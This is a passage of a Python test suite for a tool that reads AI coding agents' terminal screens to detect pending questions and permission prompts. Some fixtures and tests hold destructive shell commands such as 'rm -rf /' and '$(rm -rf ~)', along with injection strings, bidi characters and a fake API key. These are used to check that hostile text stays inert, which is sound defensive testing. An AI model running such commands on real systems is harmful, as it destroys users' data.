                 prompt: str = "▶ ") -> list[str]:
    """A program's numbered question read on a line: a heading, the question, its options,
    a hint, then the input prompt (the cursor after it)."""
    return ["❯ ask me a question", "─" * 40 + " Assistant " + "─" * 40,
            f'? ask "{ask}"', "", "🤔 Agent Question", ask,
            *(f"  {n}. {o}" for n, o in enumerate(options, 1)),
            "Enter a number to select, or type a custom answer.", prompt]


def test_a_numbered_question_at_a_glyph_prompt_is_answered_with_the_number(
        generic: rules.Manifest) -> None:
    v = rules.evaluate(generic, cursor_line(numbered_ask("red", "green", "blue")))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_numbered_question")
    d = v.dialog
    assert d is not None and d.question == "Which color do you prefer?"
    assert [o.label for o in d.options] == ["red", "green", "blue"]
    # the line reads the number's text and Enter
    assert dialog.keys_for(d, dialog.resolve(d, "green")) == ["2", "\r"]
    # no hint row, "2)" numbers: the same shape
    bare = rules.evaluate(generic, cursor_line(["Pick a mirror?", "1) eu", "2) us", "→ "]))
    assert (bare.state, bare.rule_id) == ("blocked", "line_numbered_question")
    # an answer being typed, not entered: the same dialog, erased before the answer
    typed = rules.evaluate(generic, cursor_line(numbered_ask("red", "green", "blue",
                                                             prompt="▶ 3")))
    assert typed.dialog is not None and typed.dialog.id == d.id
    assert typed.dialog.typed == "3"
    assert dialog.keys_for(typed.dialog, typed.dialog.options[0]) == ["\x7f", "1", "\r"]


@pytest.mark.parametrize("rows", [
    # a numbered answer with the chat's own prompt under it, a status bar below
    ["❯ which colours are there?", "Which of them do you like?", "  1. red", "  2. green",
     "❯ ", "", "", *STATUS_BAR],
    # the question answered: the answer entered, rows after it
    [*numbered_ask("red", "green")[:-1], "▶ 1", "You chose red.", "❯ ", "", *STATUS_BAR],
    # the answer entered, the cursor on the row under it before the program's output
    [*numbered_ask("red", "green")[:-1], "▶ 1", "You chose red."],
    # a numbered list quoted in the transcript, more rows under it
    [*numbered_ask("red", "green"), "(the question it asked)", "Done."],
    # one option only
    ["Which color do you prefer?", "  1. red", "▶ "],
    # a prompt of words ("You: "), a shell's prompt, a box's edge under the list
    ["Which color do you prefer?", "  1. red", "  2. green", "You: "],
    ["Which color do you prefer?", "  1. red", "  2. green", "➜  repo git:(main) ls"],
    ["Which color do you prefer?", "  1. red", "  2. green", "│ > │"],
    # the options not under the question: other rows between
    ["Which color do you prefer?", "Here is a list:", "", "  1. red", "  2. green", "▶ "],
], ids=["answer-over-idle-prompt", "answered", "answered-output", "quoted", "one-option",
        "word-prompt", "shell-prompt", "box-edge", "list-apart"])
def test_numbered_lists_that_wait_for_no_answer(generic: rules.Manifest,
                                                rows: list[str]) -> None:
    v = rules.evaluate(generic, cursor_line(rows))
    assert v.rule_id != "line_numbered_question", rows


def test_a_numbered_question_answered_with_the_cursor_under_it_is_none(
        generic: rules.Manifest) -> None:
    # the answer entered, the spinner's row under it erased, the cursor on that row: the
    # program works on it, nothing waits at the prompt
    rows = [*numbered_ask("red", "green")[:-1], "▶ 1"]
    v = rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * 20, cursor=(len(rows), 0)))
    assert v.rule_id != "line_numbered_question"
    # the same screen with the cursor after the prompt still waits
    v = rules.evaluate(generic, cursor_line(rows))
    assert v.rule_id == "line_numbered_question"


def test_a_numbered_question_typed_at_the_prompt_and_not_entered_is_none(
        generic: rules.Manifest) -> None:
    typed = "Which one?\n1. a\n2. b"
    rows = ["❯ Which one?", "1. a", "2. b", "", *STATUS_BAR]
    v = rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * 20, cursor=(2, 4),
                                               typed=typed))
    assert v.rule_id != "line_numbered_question"


def test_hostile_text_in_a_numbered_question_is_inert(generic: rules.Manifest) -> None:
    hostile = f"{HOSTILE} \u2066x\u2069 #(touch /tmp/x) " + "A" * 10_000
    v = rules.evaluate(generic, cursor_line(numbered_ask(f"red {hostile}", "$(id)",
                                                         ask=f"Which {hostile}?")))
    assert (v.state, v.rule_id) == ("blocked", "line_numbered_question")
    d = v.dialog
    assert d is not None and len(d.question) <= 240
    text = "\n".join([d.question, *(o.label for o in d.options)])
    for bad in ("\x1b", "\x07", "\u202e", "\u2066", "\u2069"):
        assert bad not in text, repr(bad)
    assert d.options[1].label == "$(id)"  # shown as text, never run
    assert [dialog.keys_for(d, o) for o in d.options] == [["1", "\r"], ["2", "\r"]]


# --------------------- a line-mode key row under a box; a banner's keys over the prompt

W = 60
BANNER = ["╭" + "─" * W + "╮", f"│ {'Some agent v1 · MODEL: gpt-4o':<{W - 1}}│",
          f"│ {'/help — commands · Ctrl+↑/↓ — previous inputs · Alt+Enter — newline':<{W - 1}}│",
          "╰" + "─" * W + "╯"]


def titled(title: str, *rows: str) -> list[str]:
    """A box with its title in its top edge ("╭─ ⚠ Run command ───╮")."""
    top = f"╭─ {title} "
    return [top + "─" * (W + 1 - len(top)) + "╮", *(f"│ {r:<{W - 1}}│" for r in rows),
            "╰" + "─" * W + "╯"]


KEY_PROMPT = "[y] once  [a] for the rest of session  [n] deny ›"
RUN = titled("⚠ Run command", "Command:           rm -rf build", "Reason:            asks")


def test_a_banners_key_row_over_the_typed_prompt_is_no_dialog(
        generic: rules.Manifest) -> None:
    # the banner's last row names keys, the prompt typed under it wears a pointer: no list
    for tail in (["❯ describe the project", "⠸ thinking… 0s"], ["❯ describe the project"]):
        v = rules.evaluate(generic, cursor_line([*BANNER, *tail]))
        assert v.state != "blocked", (v.rule_id, tail)
    # a dialog's own list over its hints is still one
    v = read(generic, boxed("Which color do you prefer?", "❯ 1. red", "  2. green",
                            "↑/↓ to navigate · enter to select · esc to cancel"))
    assert (v.state, v.rule_id) == ("blocked", "tui_question_list")


def test_options_with_their_keys_on_the_cursors_row_ending_in_a_prompt(
        generic: rules.Manifest) -> None:
    rows = [*BANNER, "❯ clean up", *RUN, KEY_PROMPT]
    v = rules.evaluate(generic, cursor_line(rows))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_keys_permission")
    d = v.dialog
    assert d is not None
    assert [(o.key, o.label) for o in d.options] == [
        ("y", "once"), ("a", "for the rest of session"), ("n", "deny")]
    # the line reads the key and Enter
    assert dialog.keys_for(d, dialog.resolve(d, "deny")) == ["n", "\r"]
    # entered: the cursor under the row, the command running: no longer blocked
    entered = rules.Snapshot(lines=[*rows[:-1], KEY_PROMPT + " y", "", *[""] * 20],
                             cursor=(len(rows), 0))
    assert rules.evaluate(generic, entered).state != "blocked"
    # the same row quoted in an answer, a prompt under it: none
    quoted = [*BANNER, "❯ what does it ask?", "It asks:", KEY_PROMPT, "Nothing is waiting.", "❯ "]
    assert rules.evaluate(generic, cursor_line(quoted)).state != "blocked"
    # no option approves or declines: not this rule's
    other = rules.evaluate(generic, cursor_line(["[r] red  [g] green ›"]))
    assert other.rule_id != "line_keys_permission"


def test_a_boxed_numbered_question_over_a_worded_prompt(generic: rules.Manifest) -> None:
    box = titled("❔ Question", "Which color do you prefer?", "  1. red", "  2. green",
                 "  3. blue")
    v = rules.evaluate(generic, cursor_line([*BANNER, "❯ ask me", *box, "Answer › "]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_numbered_question")
    d = v.dialog
    assert d is not None and d.question == "Which color do you prefer?"
    assert [o.label for o in d.options] == ["red", "green", "blue"]
    assert dialog.keys_for(d, dialog.resolve(d, "blue")) == ["3", "\r"]
    # a chat's "You:" prompt under a numbered answer is the chat's prompt, no question
    chat = ["Which of them do you like?", "  1. red", "  2. green", "You: "]
    assert rules.evaluate(generic, cursor_line(chat)).state != "blocked"


ASK_BOX = titled("Question 1/1", "Which color do you prefer?", "Mode: (single-select)", "",
                 "  1. red", "  2. green", "  3. blue", "  4. Other (type custom response)")
ASK_HINTED = "Your answer (choose number or type text): "


def test_a_boxed_question_with_its_own_rows_over_a_hinted_colon_prompt(
        generic: rules.Manifest) -> None:
    # the box holds a mode row and a blank one between the question and its options; a
    # blank row under the box, then a prompt of words, a hint and a colon
    v = rules.evaluate(generic, cursor_line([*BANNER, "coderai> ask me", *ASK_BOX, "",
                                            ASK_HINTED]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_numbered_question")
    assert v.msg == "Which color do you prefer?"
    d = v.dialog
    assert d is not None and d.question == "Which color do you prefer?"
    assert [o.label for o in d.options] == ["red", "green", "blue",
                                            "Other (type custom response)"]
    assert dialog.keys_for(d, dialog.resolve(d, "green")) == ["2", "\r"]
    # an answer typed, not entered: the same dialog
    typed = rules.evaluate(generic, cursor_line([*BANNER, "coderai> ask me", *ASK_BOX, "",
                                                ASK_HINTED + "2"]))
    assert typed.dialog is not None and typed.dialog.id == d.id


@pytest.mark.parametrize("rows", [
    # a bare "Answer:" under a numbered list is a model's prose, no prompt
    ["Which one do you mean?", "1. a", "2. b", "Answer: the first one."],
    [*ASK_BOX, "", "Answer: "],
    # three rows of the box's own between the question and its options: a list apart
    [*titled("Q", "Which color do you prefer?", "Mode: single", "", "More text",
             "  1. red", "  2. green"), "", ASK_HINTED],
    # the question answered: the program's output under the prompt
    [*ASK_BOX, "", ASK_HINTED + "2", "You chose green."],
    # rows between the question and the options outside a box: a list apart
    ["Which color do you prefer?", "Mode: (single-select)", "  1. red", "  2. green",
     ASK_HINTED],
], ids=["bare-answer", "bare-answer-boxed", "three-box-rows", "answered", "unboxed-rows"])
def test_numbered_lists_under_a_colon_prompt_that_wait_for_no_answer(
        generic: rules.Manifest, rows: list[str]) -> None:
    v = rules.evaluate(generic, cursor_line(rows))
    assert v.rule_id != "line_numbered_question", rows


def test_a_key_row_prompt_names_the_command_its_box_shows(generic: rules.Manifest) -> None:
    def ask(*command: str) -> rules.Verdict:
        box = titled("⚠ Run command", *(f"Command: {c}" for c in command), "Reason: asks")
        return rules.evaluate(generic, cursor_line([*BANNER, "❯ clean up", *box, KEY_PROMPT]))
    one, two = ask("rm -rf build"), ask("rm -rf build", "rm -rf /")
    assert one.dialog is not None and two.dialog is not None
    assert "Command: rm -rf build" in "\n".join(one.dialog.subject)
    assert not one.dialog.partial
    assert "Command: rm -rf /" in "\n".join(two.dialog.subject)
    # two commands that share their first row are two dialogs
    assert one.dialog.id != two.dialog.id
    # the box's top past the screen's: what it asks is partly unshown
    cut = rules.evaluate(generic, cursor_line(["│ Command: rm -rf build" + " " * 40 + "│",
                                               "│ Reason: asks" + " " * 49 + "│",
                                               "╰" + "─" * W + "╯", KEY_PROMPT]))
    assert cut.dialog is not None and cut.dialog.partial


# ------------------- a floating box of key rows; a status row's spinner beside its clock

STATUS_FOOTER = [">", "agent ↓34 ⏵ RunCommand", "^S multiline  ^B browse  ^K focused  ^Y mouse"]


def floating(*rows: str, indent: int = 18) -> list[str]:
    """A box drawn over the middle of a transcript, its edges `indent` columns in."""
    pad = " " * indent
    return [pad + "┌" + "─" * W + "┐", *(f"{pad}│ {r:<{W - 1}}│" for r in rows),
            pad + "└" + "─" * W + "┘"]


KEY_ROWS_BOX = floating("Approve RunCommand?", "", "Parameters:", "  command: rm -rf build", "",
                   "Options:", "  [y]es     - Execute this time", "  [n]o      - Skip this time",
                   "  [a]lways  - Always allow this gadget",
                   "  [d]eny    - Always deny this gadget", "  [ESC]    - Cancel")


def test_a_floating_box_of_key_rows_over_the_composer(generic: rules.Manifest) -> None:
    rows = [*KEY_ROWS_BOX, "", " 👤  make the output directory", "I will create it.", *STATUS_FOOTER]
    v = rules.Snapshot(lines=rows + [""] * 4, cursor=(len(rows) - 3, 1))
    verdict = rules.evaluate(generic, v)
    assert (verdict.state, verdict.kind, verdict.rule_id) == (
        "blocked", "permission", "tui_dialog_key_rows")
    d = verdict.dialog
    assert d is not None and d.question.startswith("Approve RunCommand?")
    assert [(o.key, o.label) for o in d.options] == [
        ("y", "[y]es - Execute this time"), ("n", "[n]o - Skip this time"),
        ("a", "[a]lways - Always allow this gadget"), ("d", "[d]eny - Always deny this gadget")]
    assert dialog.keys_for(d, dialog.resolve(d, "[n]o - Skip this time")) == ["n"]
    assert "command: rm -rf build" in "\n".join(d.subject) and not d.partial
    # another command: another dialog; a command cut with "...": partly unshown
    other = rules.evaluate(generic, rules.Snapshot(
        lines=[r.replace("rm -rf build", "rm -rf /") for r in rows] + [""] * 4,
        cursor=(len(rows) - 3, 1)))
    assert other.dialog is not None and other.dialog.id != d.id
    cut = rules.evaluate(generic, rules.Snapshot(
        lines=[r.replace("rm -rf build", "rm -rf build && echo...") for r in rows]
        + [""] * 4, cursor=(len(rows) - 3, 1)))
    assert cut.dialog is not None and cut.dialog.partial


def test_key_rows_quoted_in_the_conversation_are_none(generic: rules.Manifest) -> None:
    quoted = ["It asked: Approve RunCommand? Options:", "  [y]es     - Execute this time",
              "  [n]o      - Skip this time", "Nothing is waiting now.", *STATUS_FOOTER]
    v = rules.evaluate(generic, rules.Snapshot(lines=quoted + [""] * 4,
                                               cursor=(len(quoted) - 3, 1)))
    assert v.state != "blocked", v.rule_id
    # a box of links led by keys, none approving or declining: none
    links = floating("Where to?", "  [h]ome     - the start", "  [b]ack     - one page back")
    v = rules.evaluate(generic, rules.Snapshot(lines=[*links, *STATUS_FOOTER] + [""] * 4,
                                               cursor=(len(links), 1)))
    assert v.rule_id != "tui_dialog_key_rows"


@pytest.mark.parametrize("status", ["agent 2.0s ⠴ 4o #1", "agent ↑100 ↓79 2.8s $0.00058 ⠋ 4o #2",
                                    "⠙ 12s · model"])
def test_a_status_rows_spinner_beside_its_clock_is_work(generic: rules.Manifest,
                                                        status: str) -> None:
    rows = ["⏵ #1 openai:gpt-4o", ">", status, STATUS_FOOTER[-1]]
    v = rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * 20, cursor=(1, 1)))
    assert v.state == "working", (v.rule_id, status)


@pytest.mark.parametrize("status", ["agent ↑100 ↓63 $0.00088", "took 2.0s",
                                    "done in 3.1s ⣿⣿⣿⣿ 100%"])
def test_a_still_status_row_is_no_work(generic: rules.Manifest, status: str) -> None:
    rows = ["Two plus two is four.", ">", status, STATUS_FOOTER[-1]]
    v = rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * 20, cursor=(1, 1)))
    assert v.state != "working", (v.rule_id, status)


# ------------------------- a key list before a prompt's pointer; a glyph-led progress row

def test_a_key_list_followed_by_a_prompts_pointer(generic: rules.Manifest) -> None:
    box = ["  ⚠  Approval Required", "  ╭" + "─" * 40 + "╮", f"  │  {'command: rm -rf build':<38}│",
           "  ╰" + "─" * 40 + "╯", "  a = always allow run_cmd(rm -rf build)", "  Allow? [y/n/a] ›"]
    v = rules.evaluate(generic, cursor_line(["  ❯ clean up", *box]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "keys_permission")
    assert v.dialog is not None and [o.key for o in v.dialog.options] == ["y", "n", "a"]
    assert dialog.keys_for(v.dialog, v.dialog.options[1]) == ["n", "\r"]
    # a pointer and nothing between brackets and it: the same; without a "?": none
    none = rules.evaluate(generic, cursor_line(["see [a/b] ›"]))
    assert none.state != "blocked"


@pytest.mark.parametrize("row", ["  ❯ ", "❯", "  › ", "» "])
def test_a_lone_pointer_on_the_cursors_row_is_a_chats_prompt(generic: rules.Manifest,
                                                              row: str) -> None:
    rows = ["  ─ tokens: 100 in · 7 out", "", row]
    v = rules.evaluate(generic, cursor_line(rows))
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), row
    # typed after it: not the empty prompt
    typed = rules.evaluate(generic, cursor_line([*rows[:-1], row + "make it"]))
    assert typed.rule_id != "line_chat_prompt"


@pytest.mark.parametrize(("row", "working"), [
    ("  ✻ thinking…", True), ("  ✢︎ Thinking...", True), ("· Connecting to the model…", True),
    ("❯ Type your message…", False), ("✦ Press any key to continue...", False),
    # a spinner's glyph before a few words alone (Jasmine: its glyph turning in place)
    ("  ✻ thinking", True), ("✶ generating", True), ("★ thinking", True),
    # not a turn's summary with its time, a markdown bullet, a shell's prompt
    ("  ✻ Worked for 5s", False), ("* item one", False), ("$ ls", False)])
def test_a_glyph_led_progress_row_under_the_cursor(generic: rules.Manifest, row: str,
                                                   working: bool) -> None:
    v = rules.evaluate(generic, cursor_line(["  ❯ describe the project", row]))
    assert (v.state == "working") == working, (row, v.rule_id)



# ------------------------------------------ a review's cases: identity, lists, look-alikes

def test_a_key_list_before_a_pointer_names_its_command(generic: rules.Manifest) -> None:
    def ask(cmd: str) -> rules.Verdict:
        return rules.evaluate(generic, cursor_line(["  ❯ clean up", "", f"Run: {cmd}",
                                                    "Allow? [y/n/a] ›"]))
    one, two = ask("rm -rf build"), ask("ls")
    assert one.dialog is not None and two.dialog is not None
    assert one.dialog.id != two.dialog.id
    assert "Run: rm -rf build" in "\n".join(one.dialog.subject)


def test_a_line_key_prompt_with_no_box_or_a_blank_row_in_its_box(
        generic: rules.Manifest) -> None:
    # no box: what it asks about is not known, nothing is typed for it
    bare = rules.evaluate(generic, cursor_line(["Run command:", "  rm -rf /", "",
                                                "Reason: cleanup", KEY_PROMPT]))
    assert bare.state == "blocked" and bare.dialog is not None and bare.dialog.partial
    # a blank row inside the box is in it: the command above it counts
    def boxed_ask(cmd: str) -> rules.Verdict:
        box = titled("⚠ Run command", f"Command: {cmd}", "", "Reason: cleanup")
        return rules.evaluate(generic, cursor_line(["❯ clean up", *box, KEY_PROMPT]))
    a, b = boxed_ask("rm -rf /"), boxed_ask("ls")
    assert a.dialog is not None and b.dialog is not None and not a.dialog.partial
    assert a.dialog.id != b.dialog.id


def test_key_rows_box_parameters_led_by_keys_and_lists_outside_it(
        generic: rules.Manifest) -> None:
    def ask(last: str, under: tuple[str, ...] = ()) -> rules.Verdict:
        box = floating("Approve RunCommand?", "Parameters:", "  [0] rm", "  [1] -rf",
                       f"  [2] {last}", "Options:", "  [y]es     - Execute this time",
                       "  [n]o      - Skip this time")
        rows = [*box, *under, *STATUS_FOOTER]
        return rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * 4,
                                                      cursor=(len(rows) - 3, 1)))
    a, b = ask("/"), ask("/tmp/x")
    assert a.state == "blocked" and a.dialog is not None and b.dialog is not None
    assert a.dialog.id != b.dialog.id
    # another list of keyed rows under the box: which one is the dialog's is not known
    c = ask("/", ("  (1) the docs page", "  (2) the readme"))
    assert c.state == "blocked" and c.dialog is not None and c.dialog.options == ()


def test_a_box_of_links_whose_keys_start_yes_words_is_no_dialog(
        generic: rules.Manifest) -> None:
    links = floating("What next?", "  [n]ow      - start at once",
                     "  [y]esterday - what ran before")
    v = rules.evaluate(generic, rules.Snapshot(lines=[*links, *STATUS_FOOTER] + [""] * 4,
                                               cursor=(len(links), 1)))
    assert v.rule_id != "tui_dialog_key_rows"


def test_hints_above_a_pointer_list_still_read_as_a_dialog(generic: rules.Manifest) -> None:
    v = read(generic, ["Run rm -rf build?", "↑/↓ to navigate · enter to select", "❯ Yes",
                       "  No"])
    assert v.state == "blocked", v.rule_id


@pytest.mark.parametrize("prompt", ["You › ", "user> ", "mysql> "])
def test_a_numbered_answer_over_a_chats_or_shells_prompt(generic: rules.Manifest,
                                                         prompt: str) -> None:
    rows = ["Which option do you prefer?", "1. red", "2. green", prompt]
    assert rules.evaluate(generic, cursor_line(rows)).state != "blocked", prompt


@pytest.mark.parametrize("row", ["$ echo wait...", "% git commit -m wip...",
                                 "? Project description: a small tool..."])
def test_a_shells_or_forms_row_ending_in_dots_is_no_progress(generic: rules.Manifest,
                                                             row: str) -> None:
    assert rules.evaluate(generic, cursor_line([row])).state != "working", row


# ------------------------------------------ pass 25: a numbered choice over a worded prompt

JASMINE_ASK = ["▌ clean the build", "  Would you like to run the following command?",
               "  Reason: high-risk command; review carefully.", "", "  $ rm -rf build", ""]
JASMINE_OPTIONS = ["› 1. Yes, proceed (allow)",
                   "  2. Yes, and don't ask again for a safe prefix (remember)",
                   "  3. No, and tell Jasmine what to do differently (deny)"]


@pytest.mark.parametrize("prompt", ["approve › allow", "approve › ", "choice: "])
def test_numbered_options_with_a_pointer_over_a_worded_prompt_are_a_permission(
        generic: rules.Manifest, prompt: str) -> None:
    """Jasmine's approval: a question, its reason and command, numbered options with a
    selection pointer on one, the line prompt on the cursor's row (its completion menu
    drawn under it): blocked, a permission, its question the message; no options read
    (answered on its own screen: nothing to approve from elsewhere). A command taller
    than the rows read (its question scrolled away): the same."""
    v = rules.evaluate(generic, cursor_line([*JASMINE_ASK, *JASMINE_OPTIONS, prompt]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_numbered_permission")
    assert v.msg == "Would you like to run the following command?"
    assert v.dialog is not None and v.dialog.options == ()
    tall = [f"touch f{i}.txt" for i in range(40)]
    v = rules.evaluate(generic, cursor_line([*tall, *JASMINE_OPTIONS, prompt]))
    assert (v.state, v.rule_id) == ("blocked", "line_numbered_permission")


@pytest.mark.parametrize("rows", [
    # an answer's numbered list (no pointer on an option) under a chat's prompt
    ["Assistant: Would you like me to run one of these?", "1. Run the tests (allow)",
     "2. Proceed with the build", "User:"],
    # a pointer list asking nothing about acting, at a worded prompt
    ["Which color do you prefer?", "› 1. red", "  2. green", "choice › "],
    # the options entered: the cursor under them
    [*JASMINE_OPTIONS, "approve › allow", ""],
])
def test_numbered_lists_that_ask_no_leave_are_no_permission(generic: rules.Manifest,
                                                             rows: list[str]) -> None:
    v = rules.evaluate(generic, cursor_line(rows))
    assert v.rule_id != "line_numbered_permission", v


@pytest.mark.parametrize("row", ["▌", "▌ ", "  ┃ ", "▎"])
def test_an_input_bar_alone_on_the_cursors_row_is_a_chats_prompt(generic: rules.Manifest,
                                                                 row: str) -> None:
    v = rules.evaluate(generic, cursor_line([" jasmine   /tmp/work", " user", row]))
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), row
    typed = rules.evaluate(generic, cursor_line([" user", row.rstrip() + " make it"]))
    assert typed.rule_id != "line_chat_prompt"


def test_a_numbered_permissions_hostile_question_reaches_a_report_inert(
        generic: rules.Manifest) -> None:
    """The new permission's message is its question row, screen text: with shell, tmux
    format and bidi text in it, it is read as text and the report carries it encoded
    (one OSC 7501, nothing of it raw on the wire)."""
    from osc7501wrap.protocol import MAX_MSG, Report, sanitize_text
    from osc7501wrap.protocol.encoder import encode

    ask = "  Would you like to run $(rm -rf ~) '#{pane_id}' %H \"x\" sk-ABCDEF0123456789 \u202e?"
    rows = [JASMINE_ASK[0], ask, *JASMINE_ASK[2:], *JASMINE_OPTIONS, "approve › allow"]
    v = rules.evaluate(generic, cursor_line(rows))
    assert (v.state, v.rule_id) == ("blocked", "line_numbered_permission")
    assert v.msg is not None and "$(rm -rf ~)" in v.msg  # the text, as shown
    msg = sanitize_text(v.msg, MAX_MSG)  # what every report's message goes through
    assert not any(ord(c) < 0x20 or c == "\u202e" for c in msg), msg
    wire = encode(Report("blocked", kind="permission", msg=msg))
    assert wire.count(b"\x1b") == 2 and wire.endswith(b"\x1b\\")  # one OSC, one ST
    for raw in (b"$(", b"#{", b"%H", b"sk-ABCDEF", b"\xe2\x80\xae"):
        assert raw not in wire, raw


# ------------------------------------ pass 26: a question marked by a "?" glyph, a line read

JASMINE_QUESTION = ["? Which color do you prefer?", "  1. red", "  2. green", "  3. blue",
                    "  Enter a number or type your own answer"]


@pytest.mark.parametrize("rows", [
    [*JASMINE_QUESTION, "> "],  # 0.1.1: options and a hint
    [*JASMINE_QUESTION, "> 2"],  # the answer being typed
    ["? Which color do you prefer?", ">"],  # 0.1.0: the question alone
    ["  ? Name the branch?", "", "❯ "],
])
def test_a_question_marked_by_a_glyph_over_a_one_glyph_prompt_is_a_question(
        generic: rules.Manifest, rows: list[str]) -> None:
    """Jasmine's ask_user question: a row that begins with a "?" glyph and ends with "?",
    its options and hint under it or not, over a one-glyph prompt on the cursor's row with
    nothing drawn under it: blocked, a question, its words the message."""
    v = rules.evaluate(generic, cursor_line([" user", "▌ ask me a question", "", *rows]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "line_marked_question")
    assert v.msg in ("Which color do you prefer?", "Name the branch?")


@pytest.mark.parametrize("rows", [
    # a model's answer ending in a question, over a chat's prompt: no glyph before it
    ["Which color do you prefer?", "1. red", "2. green", "> "],
    # the question answered: the answer's rows and the prompt back under it
    ["? Which color do you prefer?", "> 2", "Green it is.", "> "],
    # a "?" row that asks nothing (a form's label ending in dots), over a prompt
    ["? Project description: a small tool...", "> "],
    # the prompt with a status bar under it (a TUI's composer, not a line read)
    ["? Which color do you prefer?", "> ", "  model · ~/work"],
])
def test_rows_ending_in_a_question_that_are_no_marked_question(generic: rules.Manifest,
                                                               rows: list[str]) -> None:
    row = len(rows) - 1 if rows[-1].startswith(">") else len(rows) - 2
    lines = rows + [""] * (24 - len(rows))
    v = rules.evaluate(generic, rules.Snapshot(lines=lines, cursor=(row, len(rows[row]))))
    assert v.rule_id != "line_marked_question", (rows, v)


def test_a_marked_questions_hostile_words_reach_a_report_inert(
        generic: rules.Manifest) -> None:
    from osc7501wrap.protocol import MAX_MSG, Report, sanitize_text
    from osc7501wrap.protocol.encoder import encode

    ask = "? Run $(rm -rf ~) '#{pane_id}' %H \"x\" sk-ABCDEF0123456789 \u202e" + "y" * 10_000 + "?"
    v = rules.evaluate(generic, cursor_line([ask, "> "]))
    assert (v.state, v.rule_id) == ("blocked", "line_marked_question")
    assert v.msg is not None and "$(rm -rf ~)" in v.msg
    msg = sanitize_text(v.msg, MAX_MSG)
    assert not any(ord(c) < 0x20 or c == "\u202e" for c in msg), msg
    wire = encode(Report("blocked", kind="question", msg=msg))
    assert wire.count(b"\x1b") == 2 and wire.endswith(b"\x1b\\") and len(wire) < 1024
    for raw in (b"$(", b"#{", b"%H", b"sk-ABCDEF", b"\xe2\x80\xae"):
        assert raw not in wire, raw


# --------------------------- pass 27: a menu in any script, its keys at its rows' ends

XIAOYU_MENU = ["● bash rm -rf build", "  ⚠ 注意：强制删除（rm -f/-rf）", "  要执行这条命令吗？",
               "  ❯ 允许一次  (1/y)", "    拒绝，并告诉小羽下一步怎么做  (2/n)",
               "    以后都拒绝（规则写入前可编辑：deny bash(rm *)）  (3/x)",
               "    ↑↓ 选择 · Enter 确认 · Tab 批准并附言 · Esc / Ctrl-C 取消"]


def test_a_menu_whose_yes_option_shows_the_key_y_is_a_permission_in_any_script(
        generic: rules.Manifest) -> None:
    """Xiaoyu's approval: a title ending in a full-width "？", options led by a pointer,
    each ending with its keys ("(1/y)"), the others' labels in Chinese, the hints row
    last: a permission (its yes option's key is y), its title the message."""
    v = read(generic, ["⏵⏵ auto › clean the build", *XIAOYU_MENU])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_list")
    assert v.msg == "要执行这条命令吗？"
    assert v.dialog is not None and [o.label[:4] for o in v.dialog.options] == [
        "允许一次", "拒绝，并", "以后都拒"]


def test_a_menu_whose_options_show_numbers_only_is_a_question(generic: rules.Manifest) -> None:
    v = read(generic, ["⏵⏵ auto › ask me", "● ask_user", "  Which color do you prefer?",
                       "  ❯ red  (1)", "    green  (2)", "    其他（自由输入）  (3)",
                       "    ↑↓ 选择 · Enter 确认 · Esc 取消"])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_list")


@pytest.mark.parametrize(("row", "idle"), [
    ("⏵⏵ auto › ", True), ("You › ", True), ("➜  repo git:(main) ", False),
    ("⏵⏵ auto › clean the build", False),  # typed
    ("Answer the question › ", False),  # more than one word
])
def test_a_word_and_a_pointer_on_the_cursors_row_is_a_chats_prompt(
        generic: rules.Manifest, row: str, idle: bool) -> None:
    v = rules.evaluate(generic, cursor_line(["Done: the build is clean.", row]))
    assert (v.rule_id == "line_chat_prompt") is idle, (row, v)


# ---------------- a menu quoted in an answer: a sentence after its hints, then the prompt

QUOTED_MENU = ["⏵⏵ auto › what does the approval look like?", "Xiaoyu asked:", "",
               "    ⏺ bash(rm -rf build)", "    ❯ 允许一次  (1/y)",
               "      拒绝，并告诉小羽下一步怎么做  (4/n)",
               "      ↑↓ 选择 · Enter 确认 · Tab 批准并附言", ""]


@pytest.mark.parametrize("after", [
    ["Nothing is waiting now."],  # the answer's last sentence, the prompt not drawn yet
    ["Nothing is waiting now.", "", "⏵⏵ auto › "],  # and the chat's prompt under it
    ["没有在等待。", "❯ "], ["It was only an example!", "", "> "],
])
def test_a_menu_followed_by_a_sentence_and_a_bare_prompt_is_no_live_dialog(
        generic: rules.Manifest, after: list[str]) -> None:
    """A menu with its hints row that an answer quoted: a sentence (a row of words ending
    in a full stop or an exclamation mark) follows the hints, then nothing or the chat's
    bare prompt. A live menu ends at its hints (or a status row), and waits there."""
    v = read(generic, [*QUOTED_MENU, *after])
    assert v.state != "blocked", v


@pytest.mark.parametrize("after", [
    [], ["? for shortcuts"], ["  esc to cancel · tab to amend"],  # a footer, no sentence
])
def test_a_menu_without_a_sentence_and_a_bare_prompt_under_it_is_still_a_dialog(
        generic: rules.Manifest, after: list[str]) -> None:
    v = read(generic, [*QUOTED_MENU, *after])
    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_list"), v


# ------------------------------ a yes/no question that asks leave to create or write

@pytest.mark.parametrize(("ask", "kind"), [
    ("Create new file 'hello.py'? (Y)es/(N)o [Yes]: ", "permission"),
    ("Write the changes to notes.md? [y/N] ", "permission"),
    ("Run the tests now? [y/N] ", "permission"),
    ("Add file to the chat? (Y)es/(N)o [Yes]: ", "question"),
    ("Edit the files? (Y)es/(N)o [Yes]: ", "question"),  # a plan's next step
    ("Show the diff? [y/N] ", "question"),
])
def test_a_yes_no_question_is_a_permission_when_it_asks_to_run_create_or_write(
        generic: rules.Manifest, ask: str, kind: str) -> None:
    v = rules.evaluate(generic, cursor_line(["> make a file", "", ask]))
    assert (v.state, v.kind) == ("blocked", kind), v


# ------------- pass 28: choices on the question's row; a pointer one blank in from a box

def modal(*rows: str) -> list[str]:
